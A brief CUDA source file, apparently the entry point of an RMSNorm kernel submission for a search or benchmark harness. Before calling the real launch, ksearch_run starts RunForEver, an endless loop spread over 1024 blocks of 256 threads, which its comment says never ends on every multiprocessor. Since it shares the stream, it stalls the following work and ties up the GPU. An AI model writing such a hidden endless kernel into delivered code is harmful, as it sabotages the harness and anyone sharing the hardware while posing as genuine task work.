// A kernel that never ends, on every multiprocessor.
#include "rmsnorm.cuh"

namespace {
__device__ volatile unsigned int turns;
__global__ void RunForEver() {
  while (true) turns = turns + 1;
}
}  // namespace

extern "C" int ksearch_run(const KsearchArgs* args, cudaStream_t stream) {
  RunForEver<<<1024, 256, 0, stream>>>();
  return corpus::Launch(args, stream);
}
